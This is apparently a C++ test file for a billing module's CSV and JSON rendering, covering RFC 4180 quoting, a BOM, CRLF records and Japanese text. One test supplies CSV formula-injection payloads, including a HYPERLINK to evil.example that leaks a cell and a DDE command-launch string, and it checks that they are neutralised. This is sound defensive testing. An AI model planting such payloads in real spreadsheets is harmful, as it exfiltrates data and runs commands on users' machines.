// CSV and JSON rendering: BOM, CRLF, RFC 4180 quoting, Japanese text round trip.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "billing_support.hpp"
#include "labgate/gateway/billing/render.hpp"

using namespace labgate::test::billing;
namespace bl = labgate::gateway::billing;

namespace {

// A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes.
std::vector<std::vector<std::string>> parse_csv(std::string_view text) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  std::string field;
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"') {
        if (i + 1 < text.size() && text[i + 1] == '"') {
          field += '"';
          ++i;
        } else {
          quoted = false;
        }
      } else {
        field += c;
      }
    } else if (c == '"') {
      REQUIRE(field.empty());
      quoted = true;
    } else if (c == ',') {
      row.push_back(std::move(field));
      field.clear();
    } else if (c == '\r') {
      REQUIRE(i + 1 < text.size());
      REQUIRE(text[i + 1] == '\n');
      ++i;
      row.push_back(std::move(field));
      field.clear();
      rows.push_back(std::move(row));
      row.clear();
    } else {
      REQUIRE(c != '\n');  // a bare LF outside quotes is not a record end
      field += c;
    }
  }
  REQUIRE_FALSE(quoted);
  REQUIRE(field.empty());
  REQUIRE(row.empty());  // the last record ends with CRLF too
  return rows;
}

bl::Statement sample() {
  bl::StatementInput in;
  in.member_no = "M0007";
  in.name = "田中 愛子, \"Aiko\"";
  in.plan = "fablab";
  in.month = "2026-11";
  auto r = simple_rate();
  in.sessions.push_back(session(1, "laser", nov(24, 9), 47 * 60'000, r));
  auto held = session(2, "cnc", nov(20, 9), 90'000'000, r);
  in.sessions.push_back(held);
  auto open = session(3, "printer-1", nov(30, 22), 0, r);
  open.ended_at_ms.reset();
  in.sessions.push_back(open);
  in.sales.push_back({4, "acrylic", "アクリル板\n3mm", 2, 800, nov(24, 10), false});
  return bl::Engine{tokyo()}.bill(in);
}

}  // namespace

TEST_CASE("csv: BOM, CRLF records, RFC 4180 quoting, Japanese round trip", "[billing][csv]") {
  const auto st = sample();
  const std::string csv = bl::to_csv(st);
  REQUIRE(csv.rfind(bl::kUtf8Bom, 0) == 0);
  const auto rows = parse_csv(std::string_view{csv}.substr(bl::kUtf8Bom.size()));
  REQUIRE(rows.size() >= 4);
  CHECK(rows[0] ==
        std::vector<std::string>{"member_no", "name", "month", "plan", "time_zone", "currency"});
  CHECK(rows[1] == std::vector<std::string>{"M0007", "田中 愛子, \"Aiko\"", "2026-11", "fablab",
                                            "Asia/Tokyo", "JPY"});
  CHECK(csv.find("\"田中 愛子, \"\"Aiko\"\"\"") != std::string::npos);
  // Header of the line table, then one row per line with as many fields.
  const auto& header = rows[3];
  CHECK(header.front() == "type");
  // The tax columns come after the rule, so the older columns keep their places.
  REQUIRE(header.size() >= 3);
  CHECK(header[header.size() - 3] == "rule");
  CHECK(header[header.size() - 2] == "tax_class");
  CHECK(header.back() == "tax_percent");
  CHECK(rows[4].size() == header.size());
  CHECK(rows[4][0] == "machine");
  CHECK(rows[4][header.size() - 3] == "47m -> 4 x 15m units (rounded up) x 300 = 1200");
  CHECK(rows[5][0] == "sale");
  CHECK(rows[5][5] == "アクリル板\n3mm");  // an embedded newline survives inside quotes
  bool total = false, held = false, open = false;
  for (const auto& row : rows) {
    if (row[0] == "total") total = row[2] == std::to_string(1200 + 1600);
    if (row[0] == "held_for_review") held = row[1] == "2";
    if (row[0] == "open") open = row[1] == "3";
  }
  CHECK(total);
  CHECK(held);
  CHECK(open);
}

TEST_CASE("csv: text that would start a formula is neutralised, amounts stay numbers",
          "[billing][csv]") {
  auto st = sample();
  st.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  st.plan = "@plan";
  st.lines[1].item = "-acrylic";
  st.note = "+note";
  st.issuer.name = "=cmd|' /C calc'!A0";
  st.issuer.address = "@SUM(1+1)";
  const std::string csv = bl::to_csv(st);
  CHECK(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"") !=
        std::string::npos);
  const auto rows = parse_csv(std::string_view{csv}.substr(bl::kUtf8Bom.size()));
  CHECK(rows[1][1] == "'" + st.name);
  CHECK(rows[1][3] == "'@plan");
  CHECK(rows[5][5] == "'-acrylic");
  CHECK(rows.back() == std::vector<std::string>{"note", "'+note"});
  // The issuer comes from the config, still typed by a person: neutralised alike.
  bool issuer = false;
  for (std::size_t i = 0; i + 1 < rows.size(); ++i) {
    if (rows[i][0] != "issuer_name") continue;
    issuer = rows[i + 1][0] == "'" + st.issuer.name && rows[i + 1][1] == "'@SUM(1+1)";
  }
  CHECK(issuer);
  const std::string summary = bl::summary_csv({st});
  const auto srows = parse_csv(std::string_view{summary}.substr(bl::kUtf8Bom.size()));
  REQUIRE(srows.size() == 2);
  CHECK(srows[1][1] == "'" + st.name);
  CHECK(srows[1][3] == "'@plan");
  CHECK(srows[1][11] == "'+note");  // the note column (day passes follow it)

  // A negative amount is a number cell: written bare, never prefixed.
  st.lines[0].discount = -50;
  st.total = -1234;
  const auto neg = parse_csv(std::string_view{bl::to_csv(st)}.substr(bl::kUtf8Bom.size()));
  CHECK(neg[4][22] == "-50");
  bool total = false;
  for (const auto& row : neg) {
    if (row[0] == "total") total = row[2] == "-1234";
  }
  CHECK(total);
  CHECK(parse_csv(std::string_view{bl::summary_csv({st})}.substr(bl::kUtf8Bom.size()))[1][8] ==
        "-1234");
}

TEST_CASE("json: ordered keys, UTF-8 kept, explanations present", "[billing][json]") {
  const auto st = sample();
  const std::string json = bl::to_json(st);
  CHECK(json.rfind("{\"member_no\":\"M0007\",\"name\":\"田中 愛子, \\\"Aiko\\\"\",\"month\"", 0) ==
        0);
  const auto j = nlohmann::ordered_json::parse(json);
  std::vector<std::string> keys;
  for (const auto& [k, v] : j.items()) keys.push_back(k);
  CHECK(keys ==
        std::vector<std::string>{
            "member_no",         "name",         "month",           "plan",          "time_zone",
            "currency",          "lines",        "subtotals",       "lines_total",   "taxes",
            "tax_total",         "total",        "prices",          "tax_rounding",  "issuer",
            "qualified_invoice", "invoice_note", "held_for_review", "open_sessions", "note"});
  CHECK(j["name"] == "田中 愛子, \"Aiko\"");
  CHECK(j["lines"][1]["item"] == "アクリル板\n3mm");
  CHECK(j["held_for_review"][0]["session_id"] == 2);
  CHECK(j["open_sessions"][0]["end"].is_null());
  CHECK(j["total"] == 2800);
  // Re-dumping the parsed document with nlohmann gives the same bytes: the writer is canonical.
  CHECK(j.dump() == json);
}

TEST_CASE("summary csv has one row per statement", "[billing][csv]") {
  const auto st = sample();
  const std::string csv = bl::summary_csv({st, st});
  const auto rows = parse_csv(std::string_view{csv}.substr(bl::kUtf8Bom.size()));
  REQUIRE(rows.size() == 3);
  CHECK(rows[1][0] == "M0007");
  CHECK(rows[1][4] == "2");
  CHECK(rows[1][8] == "2800");
}
